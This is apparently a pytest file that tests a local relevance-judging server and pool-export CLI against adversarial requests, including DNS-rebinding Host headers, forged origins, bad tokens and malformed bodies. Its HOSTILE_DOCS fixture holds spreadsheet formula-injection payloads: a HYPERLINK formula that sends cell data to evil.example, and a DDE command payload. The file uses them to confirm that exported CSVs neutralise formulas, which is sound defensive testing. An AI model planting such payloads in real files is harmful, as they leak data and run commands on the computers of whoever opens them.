"""The judging surfaces under an adversarial user, on real processes:
``harness judge serve`` started as a subprocess on 127.0.0.1 and spoken to over raw sockets, real
pool and qrels files, the real CLI. The browser side (DNS rebinding, a saved grade shown as saved)
is tests/test_judging_guard_browser.py; the grade parser's properties are tests/test_grades.py.

Only modules that existed before this work are imported here, so the file runs against an older
tree too (and fails there, row by row).
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import shutil
import signal
import socket
import subprocess
import textwrap
import threading
import time
from pathlib import Path

import pytest

from harness.cli import main
from harness.judging.pool import PoolRow, read_pool, write_pool
from tests.conftest import start_judge_serve
from tests.test_suite import make_tiny

REPO = Path(__file__).resolve().parent.parent
ENV = {**os.environ, "PYTHONPATH": str(REPO)}


@pytest.fixture
def harness(capsys):
    """The real CLI, in this process (a subprocess each would cost an interpreter start)."""

    def run(*args: str) -> subprocess.CompletedProcess[str]:
        capsys.readouterr()
        rc = main(list(args))
        out, err = capsys.readouterr()
        return subprocess.CompletedProcess(list(args), rc, out, err)

    return run


def _rows(n: int, grades: dict[int, int] | None = None) -> list[PoolRow]:
    grades = grades or {}
    return [PoolRow("q1", "query", f"d{i}", f"title {i}", f"text {i}", "bm25", i + 1, grades.get(i)) for i in range(n)]


class Server:
    """``harness judge serve POOL --port 0`` as a process: its port and token from the line it prints;
    what it writes to its terminal's stderr goes to a file, readable while it runs."""

    def __init__(self, pool: Path) -> None:
        self.log = pool.with_name(pool.name + ".stderr")
        with open(self.log, "w") as err:
            self.proc = start_judge_serve(pool, stderr=err)
        line = self.proc.stdout.readline()
        m = re.search(r"http://127\.0\.0\.1:(\d+)/(?:\?token=(\S+))?", line)
        if not m:
            self.kill()
            raise AssertionError(f"no URL: {line!r} {self.stderr()[-2000:]}")
        self.port, self.token = int(m[1]), m[2] or ""

    def stderr(self) -> str:
        return self.log.read_text()

    def request(self, raw: bytes, *, timeout: float = 10.0) -> tuple[int, bytes]:
        """Send ``raw`` as it is; the status and body of the answer (the connection is then closed)."""
        with socket.create_connection(("127.0.0.1", self.port), timeout=timeout) as s:
            s.sendall(raw)
            data = b""
            while b"\r\n\r\n" not in data:
                chunk = s.recv(65536)
                if not chunk:
                    break
                data += chunk
            head, _, body = data.partition(b"\r\n\r\n")
            m = re.search(rb"Content-Length: (\d+)", head, re.I)
            while m and len(body) < int(m[1]):
                chunk = s.recv(65536)
                if not chunk:
                    break
                body += chunk
        return int(head.split()[1]), body

    def call(self, method: str, path: str, body: object = None, *, host: str | None = None, **headers: str):
        """A well-formed request with this start's token (unless overridden); ``(status, json)``."""
        data = b"" if body is None else json.dumps(body).encode()
        hdrs = {"Host": host or f"127.0.0.1:{self.port}", "X-Judge-Token": self.token, "Connection": "close"}
        if body is not None:
            hdrs |= {"Content-Type": "application/json", "Content-Length": str(len(data))}
        hdrs |= {k.replace("_", "-"): v for k, v in headers.items()}
        head = f"{method} {path} HTTP/1.1\r\n" + "".join(f"{k}: {v}\r\n" for k, v in hdrs.items() if v is not None)
        status, raw = self.request(head.encode() + b"\r\n" + data)
        try:
            return status, json.loads(raw)
        except ValueError:
            return status, raw.decode("utf-8", "replace")

    def stop(self) -> str:
        """SIGINT (Ctrl-C), then what the server wrote to stderr."""
        if self.proc.poll() is None:
            self.proc.send_signal(signal.SIGINT)
            try:
                self.proc.wait(timeout=30)
            except subprocess.TimeoutExpired:
                self.kill()
        return self.stderr()

    def kill(self) -> None:
        if self.proc.poll() is None:
            self.proc.kill()
            self.proc.wait(timeout=30)


@pytest.fixture
def serve():
    started: list[Server] = []

    def start(pool: Path) -> Server:
        s = Server(pool)
        started.append(s)
        return s

    yield start
    for s in started:
        s.kill()


@pytest.fixture(scope="module")
def served(tmp_path_factory):
    """One server for the request checks: a pool of 6 rows, each test grading its own rows."""
    pool = write_pool(tmp_path_factory.mktemp("served") / "pool.csv", _rows(6))
    s = Server(pool)
    yield pool, s
    s.kill()


# ---------------------------------------------------------------------- row 7: who may ask, and how
def test_server_checks_host_origin_and_the_token(served):
    pool, s = served
    assert s.call("GET", "/api/item?i=0")[0] == 200
    assert s.call("GET", "/api/item?i=0", host=f"localhost:{s.port}")[0] == 200
    # DNS rebinding: a foreign name in Host, whatever else the request carries
    for host in (f"evil.example:{s.port}", "127.0.0.1", f"127.0.0.1:{s.port + 1}", f"localhost.evil:{s.port}"):
        status, body = s.call("GET", "/api/item?i=0", host=host)
        assert status == 403 and "query" not in json.dumps(body), (host, body)
        assert s.call("POST", "/api/grade", {"i": 0, "grade": 2}, host=host)[0] == 403
    # another origin, with the right Host and token
    status, body = s.call("POST", "/api/grade", {"i": 0, "grade": 2}, Origin="http://evil.example")
    assert status == 403 and "origin" in body["error"]
    assert s.call("POST", "/api/grade", {"i": 0, "grade": 2}, Origin=f"http://127.0.0.1:{s.port}")[0] == 200
    # no token, a wrong one, a non-ASCII one: no data, no grade
    assert s.token, "the printed URL carries a per-start token"
    for tok in (None, "", "x" * 43, s.token[:-1] + "é"):
        assert s.call("GET", "/api/item?i=1", X_Judge_Token=tok)[0] == 403
        assert s.call("POST", "/api/grade", {"i": 1, "grade": 3}, X_Judge_Token=tok)[0] == 403
    status, page = s.call("GET", "/", X_Judge_Token=None)
    assert status == 403 and "token" in page  # the page without the token: where to find it
    assert s.call("GET", f"/?token={s.token}", X_Judge_Token=None)[0] == 200
    assert [r.grade for r in read_pool(pool)][:2] == [2, None]
    assert "Traceback" not in s.stderr()


def test_malformed_requests_get_400_no_traceback_and_never_block_a_handler(served):
    pool, s = served
    before = [r.grade for r in read_pool(pool)]
    head = f"POST /api/grade HTTP/1.1\r\nHost: 127.0.0.1:{s.port}\r\nX-Judge-Token: {s.token}\r\n"
    head += "Content-Type: application/json\r\n"
    # Content-Length -1 (the client keeps the connection open): answered at once, not read to EOF
    t0 = time.monotonic()
    status, body = s.request((head + "Content-Length: -1\r\n\r\n").encode(), timeout=8)
    assert status == 400 and b"Content-Length" in body
    assert time.monotonic() - t0 < 8  # the socket's own timeout is the bound; no figure is asserted
    for length in ("abc", "1e3", "\u0663", "+5", ""):
        status, _ = s.request((head + f"Content-Length: {length}\r\n\r\n").encode("utf-8"))
        assert status == 400, length
    for body in (b"[1, 2]", b'"i"', b"null", b"{", b"[" * 3000 + b"]" * 3000, b"\xff\xfe", b'{"i": 0, "grade": 1e1}',
                 b'{"i": 0, "grade": true}', b'{"i": 0, "grade": "\\u0663"}', b'{"i": "0", "grade": 1}',
                 b'{"i": 0, "grade": 99999999999999999999999}', b'{"i": 0, "grade": "1_0"}'):  # fmt: skip
        status, answer = s.request((head + f"Content-Length: {len(body)}\r\n\r\n").encode() + body)
        assert status in (400, 413), (body[:40], status)
        assert b"Traceback" not in answer
    assert s.call("GET", "/api/item?i=%D9%A3")[0] == 400  # an Arabic-Indic digit is not a row number
    # after all that the server still grades, and nothing else was written
    assert [r.grade for r in read_pool(pool)] == before
    assert s.call("POST", "/api/grade", {"i": 2, "grade": 1})[0] == 200
    assert [r.grade for r in read_pool(pool)][2] == 1
    assert "Traceback" not in s.stderr(), s.stderr()[-3000:]


# ---------------------------------------------------------------------- row 8: one server, the file's grades kept
def _refused(harness, *args: str) -> subprocess.CompletedProcess[str]:
    """``harness *args`` in a thread, which must end by itself (a server that starts never does)."""
    done: list[subprocess.CompletedProcess[str]] = []
    t = threading.Thread(target=lambda: done.append(harness(*args)), daemon=True)
    t.start()
    t.join(timeout=30)
    assert done, "the server started: it should have been refused"
    return done[0]


def test_one_server_per_pool_and_a_killed_one_leaves_no_stale_lock(tmp_path, serve, harness):
    pool = write_pool(tmp_path / "pool.csv", _rows(3))
    first = serve(pool)
    (tmp_path / "sub").mkdir()
    os.symlink(pool, tmp_path / "sub" / "link.csv")
    for path in (pool, tmp_path / "sub" / "link.csv"):  # the same pool by another name too
        r = _refused(harness, "judge", "serve", str(path), "--port", "0")
        assert r.returncode == 2 and r.stdout == "", r.stdout
        assert "another `harness judge serve` is grading this pool" in r.stderr
        assert f"pid {first.proc.pid}" in r.stderr and f":{first.port}/" in r.stderr
        assert len(r.stderr.strip().splitlines()) == 1
    os.kill(first.proc.pid, signal.SIGKILL)  # no handler runs: the lock goes with the process
    first.proc.wait(timeout=30)
    second = serve(pool)
    assert second.call("POST", "/api/grade", {"i": 0, "grade": 1})[0] == 200
    second.stop()
    assert [r.grade for r in read_pool(pool)] == [1, None, None]
    # a clean exit leaves no lock file (only the pool, the link and the servers' captured stderr)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["pool.csv", "pool.csv.stderr", "sub"]


def test_a_file_named_like_the_lock_is_left_alone(tmp_path, harness):
    pool = write_pool(tmp_path / "pool.csv", _rows(2))
    (tmp_path / "pool.csv.lock").write_text("my notes\n")
    r = _refused(harness, "judge", "serve", str(pool), "--port", "0")
    assert r.returncode == 2 and "pool.csv.lock: this file is in the way" in r.stderr, r.stderr
    assert (tmp_path / "pool.csv.lock").read_text() == "my notes\n"


def test_grades_typed_into_the_file_while_serving_are_kept(tmp_path, serve):
    pool = write_pool(tmp_path / "pool.csv", _rows(5))
    s = serve(pool)
    assert s.call("POST", "/api/grade", {"i": 0, "grade": 2})[0] == 200
    # a grader fills row 3 in a spreadsheet and saves (a new file, as spreadsheets do)
    text = pool.read_text().replace("d3,title 3,text 3,bm25,4,\n", "d3,title 3,text 3,bm25,4,3\n")
    pool.write_text(text)
    assert s.call("POST", "/api/grade", {"i": 1, "grade": 0})[0] == 200
    assert [r.grade for r in read_pool(pool)] == [2, 0, None, 3, None]
    # the same row graded in the file and on the page: the file's grade stands, the page is told
    rows = read_pool(pool)
    rows[2].grade = 1
    write_pool(pool, rows)
    status, body = s.call("POST", "/api/grade", {"i": 2, "grade": 3, "shown": None})
    assert status == 409 and "graded 1 in the file" in body["error"]
    assert s.call("GET", "/api/item?i=2")[1]["grade"] == 1  # the page reloads the row with the file's grade
    assert [r.grade for r in read_pool(pool)] == [2, 0, 1, 3, None]
    # undo never takes back a grade someone else changed in the file
    rows[1].grade = 3
    write_pool(pool, rows)
    assert s.call("POST", "/api/undo", {})[1]["undone"] == 0  # this session's grade of row 0, not row 1's
    assert s.call("POST", "/api/undo", {})[1]["undone"] is None
    assert [r.grade for r in read_pool(pool)] == [None, 3, 1, 3, None]
    # a file half-edited (unreadable) or with other rows is never overwritten
    broken = pool.read_bytes() + b"q1,,d9\n"
    pool.write_bytes(broken)
    status, body = s.call("POST", "/api/grade", {"i": 4, "grade": 0})
    assert status == 409 and "not overwritten" in body["error"]
    assert pool.read_bytes() == broken
    write_pool(pool, [*rows, PoolRow("q2", "", "d9", "", "", "bm25", 1)])
    assert s.call("POST", "/api/grade", {"i": 4, "grade": 0})[0] == 409
    assert len(read_pool(pool)) == 6
    assert "Traceback" not in s.stop()


# ---------------------------------------------------------------------- rows 9, 12, 14: pool and report folders
DEMO = textwrap.dedent("""
    dataset: demo
    metrics: [ndcg@10, bpref]
    depth: 20
    latency_queries: 0
    warmup_queries: 0
    baseline: bm25
    stats: {bootstrap: 50, permutations: 100}
    retrievers:
      bm25: {type: bm25}
      bm25_k2: {type: bm25, k1: 2.0, b: 0.9}
""")


@pytest.fixture(scope="module")
def demo(tmp_path_factory) -> Path:
    tmp = tmp_path_factory.mktemp("demo")
    (tmp / "demo.yaml").write_text(DEMO)
    assert main(["run", "--config", str(tmp / "demo.yaml"), "--out", str(tmp / "res"), "--no-progress"]) == 0
    return tmp / "res"


def _interrupted(folder: Path, to: Path) -> Path:
    """``folder`` as a run killed after its first retriever leaves it: ``complete: false``, the
    second retriever absent from results.json, its run file never written."""
    shutil.copytree(folder, to)
    res = json.loads((to / "results.json").read_text())
    res["complete"] = False
    for key in ("summary", "per_query", "counts", "efficiency", "run_files", "judged_at_10"):
        res[key].pop("bm25_k2", None)
    res["significance"], res["intervals"] = {}, {}
    (to / "results.json").write_text(json.dumps(res))
    for p in (to / "runs").glob("bm25_k2-*"):
        p.unlink()
    return to


def test_pool_refuses_an_incomplete_folder_as_report_does(demo, tmp_path, harness):
    broken = _interrupted(demo, tmp_path / "interrupted")
    out = tmp_path / "pool.csv"
    r = harness("pool", str(broken), "--out", str(out))
    assert r.returncode == 2 and not out.exists()
    assert r.stderr.count("\n") == 1 and "incomplete results" in r.stderr and "--allow-incomplete" in r.stderr
    assert r.stderr == harness("report", str(broken)).stderr  # the same words as report
    r = harness("pool", str(broken), "--out", str(out), "--allow-incomplete")
    assert r.returncode == 0 and "incomplete results" in r.stderr and out.is_file()
    assert {x.retrieved_by for x in read_pool(out)} == {"bm25"}  # what it pooled, by choice
    # an edited run file: the cause named, not a parse error in it
    edited = tmp_path / "edited"
    shutil.copytree(demo, edited)
    run = next((edited / "runs").glob("bm25-*.trec"))
    run.write_text(run.read_text() + "garbage\n")
    r = harness("pool", str(edited), "--out", str(tmp_path / "p2.csv"))
    assert r.returncode == 2 and "was changed after the run" in r.stderr, r.stderr
    missing = tmp_path / "missing"
    shutil.copytree(demo, missing)
    next((missing / "runs").glob("bm25_k2-*.trec")).unlink()
    r = harness("pool", str(missing), "--out", str(tmp_path / "p3.csv"))
    assert r.returncode == 2 and "run file of 'bm25_k2' named in results.json is missing" in r.stderr, r.stderr
    assert not (tmp_path / "p2.csv").exists() and not (tmp_path / "p3.csv").exists()


def test_report_qrels_header_counts_the_queries_scored(demo, tmp_path, harness):
    judged = [line for line in (demo / "qrels.tsv").read_text().splitlines() if line and not line.startswith("query")]
    qids = sorted({line.split()[0] for line in judged})[:10]
    q10 = tmp_path / "q10.txt"
    q10.write_text("".join(f"{q} 0 {d} {g}\n" for q, _, d, g in (x.split() for x in judged) if q in qids))
    plain = harness("report", str(demo))
    assert plain.returncode == 0 and "(test, 83 queries)" in plain.stdout
    r = harness("report", str(demo), "--qrels", str(q10))
    assert r.returncode == 0, r.stderr
    assert "(test, 10 queries)" in r.stdout and "83 queries" not in r.stdout


SUITE = textwrap.dedent("""
    datasets:
      demo: demo
      tiny: {path: tiny, split: test}
    depth: 20
    latency_queries: 0
    warmup_queries: 0
    metrics: [ndcg@10, precision@10]
    baseline: bm25
    stats: {bootstrap: 50, permutations: 100}
    retrievers:
      bm25: {type: bm25}
      bm25_k2: {type: bm25, k1: 2.0, b: 0.9}
""")


def test_report_suite_qrels_is_refused_and_judged_only_rescores_every_dataset(tmp_path, harness):
    make_tiny(tmp_path / "tiny")
    (tmp_path / "suite.yaml").write_text(SUITE)
    r = harness("run", "--config", str(tmp_path / "suite.yaml"), "--out", str(tmp_path / "s"), "--no-progress")
    assert r.returncode == 0, r.stderr[-3000:]
    suite = tmp_path / "s"
    before = {p: p.read_bytes() for p in suite.rglob("*") if p.is_file()}
    qrels = suite / "demo" / "qrels.tsv"
    for given, words in ((str(qrels), "one qrels file cannot judge several datasets"),
                         (str(tmp_path / "nonexistent.txt"), "judgments not found")):  # fmt: skip
        r = harness("report", str(suite), "--qrels", given)
        assert r.returncode == 2 and r.stdout == "", r.stdout[-500:]
        assert len(r.stderr.strip().splitlines()) == 1 and words in r.stderr, r.stderr
    plain = harness("report", str(suite))
    jo = harness("report", str(suite), "--judged-only")
    assert jo.returncode == 0, jo.stderr
    assert jo.stdout != plain.stdout
    # every dataset's cell is that dataset's own judged-only re-score
    from harness.engine.rescore import rescore
    from harness.results import Results

    for d in ("demo", "tiny"):
        value = rescore(Results.load(suite / d), judged_only=True).summary["bm25_k2"]["precision@10"]
        assert f"{value:.4f}" in jo.stdout, (d, value)
    assert {p: p.read_bytes() for p in suite.rglob("*") if p.is_file()} == before  # nothing written


# ---------------------------------------------------------------------- rows 10, 11: the pool file itself
HOSTILE_DOCS = [
    ("h0", '=HYPERLINK("http://evil.example/?"&A1,"click")', "line\u2028separator and\u2029paragraph, \x85 too"),
    ("h1", "+1+2", "=cmd|' /C calc'!A0"),
    ("h2", "-3+4", "@SUM(A1:A9)"),
    ("h3", "\tTabbed", "'quoted already"),
    ("h4", "plain title", "\rcarriage"),
]


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> Path:
    """A results folder over a small dataset whose documents a spreadsheet would evaluate, and its
    pool written by ``harness pool`` as pool.csv and pool.jsonl beside it."""
    tmp = tmp_path_factory.mktemp("hostile")
    data = tmp / "hostile"
    (data / "qrels").mkdir(parents=True)
    (data / "corpus.jsonl").write_text(
        "".join(json.dumps({"_id": i, "title": t, "text": x + " cells formulas"}) + "\n" for i, t, x in HOSTILE_DOCS)
    )
    (data / "queries.jsonl").write_text(json.dumps({"_id": "q1", "text": "cells formulas"}) + "\n")
    (data / "qrels" / "test.tsv").write_text("query-id\tcorpus-id\tscore\nq1\th4\t1\n")
    (tmp / "h.yaml").write_text(
        "dataset: {path: hostile, split: test}\nmetrics: [ndcg@10]\ndepth: 10\nlatency_queries: 0\n"
        "warmup_queries: 0\nretrievers:\n  bm25: {type: bm25}\n"
    )
    assert main(["run", "--config", str(tmp / "h.yaml"), "--out", str(tmp / "hres"), "--no-progress"]) == 0
    for suffix in ("csv", "jsonl"):
        assert main(["pool", str(tmp / "hres"), "--out", str(tmp / f"pool.{suffix}")]) == 0
    return tmp


#: the dataset's own title and text of every pooled document (h4 is judged: not pooled)
HOSTILE_TEXT = {i: (t, x + " cells formulas") for i, t, x in HOSTILE_DOCS if i != "h4"}


def test_pool_csv_neutralises_formulas_and_reads_back_the_text(hostile, harness):
    cells = [c for row in csv.reader(io.StringIO((hostile / "pool.csv").read_text(), newline="")) for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]  # nothing a spreadsheet evaluates
    assert '\'=HYPERLINK("http://evil.example/?"&A1,"click")' in cells and "''quoted already cells formulas" in cells
    # read back (the server and merge read it) as the dataset's own text
    assert {r.doc_id: (r.title, r.text) for r in read_pool(hostile / "pool.csv")} == HOSTILE_TEXT
    r = harness("judge", "merge", str(hostile / "pool.csv"), "--qrels", str(hostile / "hres" / "qrels.tsv"),
                "--out", str(hostile / "q-csv.txt"))  # fmt: skip
    assert r.returncode == 0, r.stderr


def test_pool_jsonl_keeps_the_text_and_reads_u2028_back(hostile, harness):
    lines = (hostile / "pool.jsonl").read_text().split("\n")  # JSON's own line ends only
    assert any('"=HYPERLINK(' in x for x in lines) and any("\u2028" in x for x in lines)  # text unchanged
    assert {r.doc_id: (r.title, r.text) for r in read_pool(hostile / "pool.jsonl")} == HOSTILE_TEXT
    r = harness("judge", "merge", str(hostile / "pool.jsonl"), "--qrels", str(hostile / "hres" / "qrels.tsv"),
                "--out", str(hostile / "q-jsonl.txt"))  # fmt: skip
    assert r.returncode == 0, r.stderr


@pytest.mark.parametrize(
    ("cell", "why"),
    [
        ("99999999999999999999999", "out of range (a 64-bit integer)"),
        ("1_0", "no '_' separators"),
        ("\u0663", "non-ASCII digits"),
        ("1e1", "not an integer"),
    ],
)
def test_merge_reads_grades_as_the_qrels_reader_does(tmp_path, cell, why, harness):
    qrels = tmp_path / "q.txt"
    qrels.write_text("q1 0 d0 1\n")
    pool = tmp_path / "pool.csv"
    pool.write_text(f"query_id,doc_id,grade\nq1,d1,{cell}\n", encoding="utf-8")
    r = harness("judge", "merge", str(pool), "--qrels", str(qrels), "--out", str(tmp_path / "q2.txt"))
    assert r.returncode == 2 and not (tmp_path / "q2.txt").exists(), r.stderr
    assert "pool.csv:2: grade:" in r.stderr and why in r.stderr, r.stderr
    # the qrels reader says the same of the same text
    (tmp_path / "bad.txt").write_text(f"q1 0 d1 {cell}\n", encoding="utf-8")
    (tmp_path / "run.trec").write_text("q1 Q0 d1 1 1.0 x\n")
    r = harness("evaluate", "--qrels", str(tmp_path / "bad.txt"), "--run", str(tmp_path / "run.trec"))
    assert r.returncode == 2 and why in r.stderr, r.stderr
    # in JSON Lines: as a string, and as a number where JSON's grammar allows one
    number = re.fullmatch(r"-?(0|[1-9][0-9]*)(\.[0-9]+)?([eE][+-]?[0-9]+)?", cell)
    for literal in [json.dumps(cell)] + ([cell] if number else []):
        (tmp_path / "pool.jsonl").write_text(json.dumps({"query_id": "q1", "doc_id": "d1", "grade": 0})
                                             .replace("0}", literal + "}") + "\n")  # fmt: skip
        r = harness("judge", "merge", str(tmp_path / "pool.jsonl"), "--qrels", str(qrels),
                    "--out", str(tmp_path / "q3.txt"))  # fmt: skip
        assert r.returncode == 2 and "pool.jsonl:1: grade:" in r.stderr and why in r.stderr, (literal, r.stderr)
